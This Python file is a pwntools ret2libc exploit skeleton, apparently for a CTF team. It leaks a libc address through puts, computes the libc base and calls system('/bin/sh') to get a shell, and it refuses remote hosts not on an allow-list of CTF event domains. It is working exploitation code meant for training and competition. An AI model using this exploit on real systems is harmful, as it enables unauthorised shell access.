#!/usr/bin/env python3
"""pwntools skeleton. Refuses targets that aren't on the team's allow-list.

  ./pwn_skel.py LOCAL              run ./chall
  ./pwn_skel.py HOST=chal.kestrelctf.org PORT=31337
"""
import sys
from pwn import ELF, ROP, args, context, log, p64, process, remote, u64

ALLOWED_SUFFIXES = (
    ".kestrelctf.org",
    ".picoctf.net",
    ".pwn.college",
    ".hackthebox.eu",
    "localhost",
    "127.0.0.1",
)

BINARY = "./chall"
LIBC = "./libc.so.6"


def connect():
    if args.LOCAL or not args.HOST:
        return process(BINARY)
    host = args.HOST
    if not host.endswith(ALLOWED_SUFFIXES):
        log.error("%s isn't an event host. Edit ALLOWED_SUFFIXES together with your captain.", host)
        sys.exit(1)
    return remote(host, int(args.PORT))


def find_offset() -> int:
    """Fill this in. cyclic(200), crash, cyclic_find(rsp). Don't copy from a write-up."""
    return 72


def leak_libc(io, elf, rop, off):
    payload = b"A" * off
    payload += p64(rop.find_gadget(["pop rdi", "ret"]).address)
    payload += p64(elf.got["puts"])
    payload += p64(elf.plt["puts"])
    payload += p64(elf.symbols["main"])
    io.sendlineafter(b"> ", payload)
    raw = io.recvline().strip()
    addr = u64(raw.ljust(8, b"\x00"))
    log.info("puts @ %#x", addr)
    return addr


def final(io, libc, rop, off):
    pop_rdi = rop.find_gadget(["pop rdi", "ret"]).address
    ret = rop.find_gadget(["ret"]).address  # stack alignment, why?
    payload = b"A" * off
    payload += p64(ret) + p64(pop_rdi)
    payload += p64(next(libc.search(b"/bin/sh\x00")))
    payload += p64(libc.symbols["system"])
    io.sendlineafter(b"> ", payload)


def main():
    context.binary = elf = ELF(BINARY, checksec=True)
    libc = ELF(LIBC, checksec=False)
    rop = ROP(elf)
    off = find_offset()
    io = connect()
    puts = leak_libc(io, elf, rop, off)
    libc.address = puts - libc.symbols["puts"]
    assert libc.address & 0xFFF == 0, "leak is wrong, base must be page aligned"
    final(io, libc, rop, off)
    io.interactive()  # cat flag


if __name__ == "__main__":
    main()
